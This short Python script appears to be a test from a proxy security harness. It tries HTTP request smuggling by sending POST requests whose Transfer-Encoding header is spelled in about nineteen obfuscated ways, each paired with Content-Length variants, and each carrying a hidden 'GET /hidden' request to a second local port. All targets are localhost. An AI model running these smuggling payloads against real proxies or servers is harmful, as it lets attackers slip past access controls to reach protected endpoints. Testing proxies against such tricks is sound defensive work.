"""Spell Transfer-Encoding so that one server reads chunks and the next one does not."""

# aims: outside
# control: none (there is no proxy outside of a session)
# seconds: 30
from attack import tried
from proxied import SITE, TCP, say

good = f"127.0.0.1:{SITE}"
hidden = f"0\r\n\r\nGET /hidden HTTP/1.1\r\nHost: 127.0.0.1:{TCP}\r\n\r\n"
tried()
for field in (
    "Transfer-Encoding: xchunked", "Transfer-Encoding : chunked", "Transfer-Encoding:\x0bchunked", "Transfer-Encoding: chunked ",
    "Transfer-Encoding: chunked, identity", "Transfer-Encoding: identity, chunked", "Transfer-Encoding: gzip, chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "X: x\r\n Transfer-Encoding: chunked", "X: x\nTransfer-Encoding: chunked", "X: x\rTransfer-Encoding: chunked",
    "Transfer-Encoding\x00: chunked", "transfer_encoding: chunked", "Transfer-Encoding: \"chunked\"", "TE: chunked",
    "Transfer-Encoding: CHUNKED", "Transfer-Encoding:chunked;q=1", "Transfer-Encoding: chunked\x00",
):  # fmt: skip
    for length in ("", f"Content-Length: {len(hidden)}\r\n", "Content-Length: 5\r\n"):
        say(f"POST http://{good}/ HTTP/1.1\r\nHost: {good}\r\n{length}{field}\r\n\r\n{hidden}".encode("latin-1"))
